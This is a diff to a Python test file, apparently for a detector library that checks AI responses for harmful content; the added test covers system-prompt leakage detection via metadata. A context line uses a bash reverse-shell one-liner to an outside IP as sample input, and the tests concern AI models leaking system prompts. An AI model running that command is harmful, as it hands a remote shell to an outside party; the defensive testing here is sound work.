@@ -165,3 +165,17 @@ def test_no_answer_no_findings() -> None:
     dets = create(RESPONSE_IDS)
     ev = Event(id="u", messages=(Message(role="user", content="bash -i >& /dev/tcp/1.2.3.4/1 0>&1"),))
     assert [f for d in dets for f in d.detect(ev)] == []
+
+
+def test_context_passed_in_metadata_is_compared_like_a_system_message() -> None:
+    from stormwatch.detectors.response import ANSWER_CONTEXT_KEY
+
+    case = next(c for c in HARMFUL if c["id"] == "leak-verbatim")
+    [det] = create(["response-leakage"])
+    ev = Event(id="m", response=case["response"], metadata={ANSWER_CONTEXT_KEY: [case["system"]]})
+    [f] = det.detect(ev)
+    assert f.rule == "RESP-LEAK-PROMPT" and f.evidence[0].turn == 0
+    assert (
+        det.detect(Event(id="n", response=case["response"], metadata={ANSWER_CONTEXT_KEY: "not a list"}))
+        == []
+    )
